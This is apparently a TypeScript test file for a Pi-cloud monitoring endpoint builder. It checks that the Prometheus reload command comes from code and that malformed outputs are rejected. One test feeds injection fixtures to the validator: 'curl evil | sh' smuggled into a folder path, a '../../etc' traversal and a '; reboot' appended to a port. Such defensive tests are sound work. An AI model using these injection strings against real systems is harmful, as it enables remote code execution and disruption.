import { describe, expect, it } from "vitest";
import { MonitoringEndpointOutput, monitoringEndpointFromOutput, prometheusReloadCommand } from "./attachment";

const output: MonitoringEndpointOutput = {
    host: "192.168.1.10",
    port: 22,
    user: "pi",
    hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIASjxOTX4160vIyXmNHWZEQrRmaTEjgOfbSKNHYQH6R0",
    fileSdDir: "/srv/picloud/monitoring/prometheus/file_sd",
    rulesDir: "/srv/picloud/monitoring/prometheus/rules",
    dashboardsDir: "/srv/picloud/monitoring/grafana/dashboards",
    prometheusPort: 9090,
};

describe("monitoringEndpointFromOutput", () => {
    it("builds the reload command from its own code: the output carries data, never a command", () => {
        const endpoint = monitoringEndpointFromOutput(output, "key");
        expect(endpoint.reloadCommand).toBe(prometheusReloadCommand(9090));
        expect(endpoint.reloadCommand).toMatch(/^curl -fsS -X POST http:\/\/127\.0\.0\.1:9090\/-\/reload /);
        expect(Object.keys(output)).not.toContain("reloadCommand");
    });

    it("refuses an output whose folders or port would smuggle a command onto the monitoring Pi", () => {
        expect(() => monitoringEndpointFromOutput({ ...output, rulesDir: "/srv/x; curl evil | sh" }, "key")).toThrow(/monitoring output rulesDir: expected an absolute path/);
        expect(() => monitoringEndpointFromOutput({ ...output, fileSdDir: "/srv/../../etc" }, "key")).toThrow(/fileSdDir/);
        expect(() => monitoringEndpointFromOutput({ ...output, prometheusPort: "9090; reboot" as unknown as number }, "key")).toThrow(/Prometheus's port/);
    });

    it("delivers to every monitoring Pi the output lists, and to its one Pi when it lists none (a release with one monitoring Pi)", () => {
        const second = { pi: "mon-2", host: "192.168.1.11", port: 22, user: "pi", hostKey: output.hostKey };
        const both = monitoringEndpointFromOutput({ ...output, pi: "mon-1", replicas: [{ ...output, pi: "mon-1" }, second] }, "key");
        expect(both.replicas.map((r) => [r.pi, (r.connection as { host: string }).host])).toEqual([["mon-1", "192.168.1.10"], ["mon-2", "192.168.1.11"]]);
        const one = monitoringEndpointFromOutput(output, "key");
        expect(one.replicas.map((r) => [r.pi, (r.connection as { host: string }).host])).toEqual([["monitoring-pi", "192.168.1.10"]]);
    });

    it("refuses a monitoring Pi's name that is no Pi name: it becomes part of resource names", () => {
        expect(() => monitoringEndpointFromOutput({ ...output, replicas: [{ ...output, pi: "a::b" }] }, "key")).toThrow(/monitoring output replicas\[0\]\.pi: expected a Pi name, got "a::b"/);
        expect(() => monitoringEndpointFromOutput({ ...output, replicas: [] }, "key")).toThrow(/monitoring output replicas: expected a list of monitoring Pis/);
    });
});
